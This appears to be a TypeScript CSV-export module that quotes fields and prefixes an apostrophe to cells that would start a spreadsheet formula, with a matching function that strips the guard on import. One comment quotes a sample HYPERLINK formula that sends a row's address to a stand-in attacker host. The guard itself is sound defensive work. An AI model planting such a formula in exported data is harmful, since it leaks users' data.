// RFC 4180 CSV: CRLF line ends; every field quoted, quotes doubled.

/**
 * Where a spreadsheet may read a formula: a cell that starts with =, +, -, @, a tab or a CR. The
 * export is opened in Excel or LibreOffice, and a description is anybody's text
 * ('=HYPERLINK("https://evil.example/?"&A2)' would send the row's address away). A cell starts at
 * the start of a field, and also after a ; , tab or line break inside it, for a spreadsheet that
 * splits on those (or is told to). Each such start gets an apostrophe, as OWASP's advice on CSV
 * injection has it.
 */
const CELL_STARTING_A_FORMULA = /(?<=^|[;,\t\r\n])(?=[=+\-@\t\r])/g;

/** The guard's apostrophe, where the export put one: what the import reads back. */
const GUARDED_CELL = /(?<=^|[;,\t\r\n])'(?=[=+\-@\t\r])/g;

/**
 * A field of this site's export as it was before the formula guard: the apostrophe the guard put
 * before a cell's start is taken away again, so an export imported and exported again is the same
 * file, byte for byte.
 */
export function unguardedCell(text: string): string {
  return text.replace(GUARDED_CELL, '');
}

function csvField(value: string | null | undefined): string {
  const text = (value ?? '').replace(CELL_STARTING_A_FORMULA, "'");
  return `"${text.replace(/"/g, '""')}"`;
}

/** One record with its CRLF. */
export function csvLine(fields: (string | null)[]): string {
  return `${fields.map(csvField).join(',')}\r\n`;
}

export function toCsv(header: string[], rows: (string | null)[][]): string {
  return [header, ...rows].map(csvLine).join('');
}
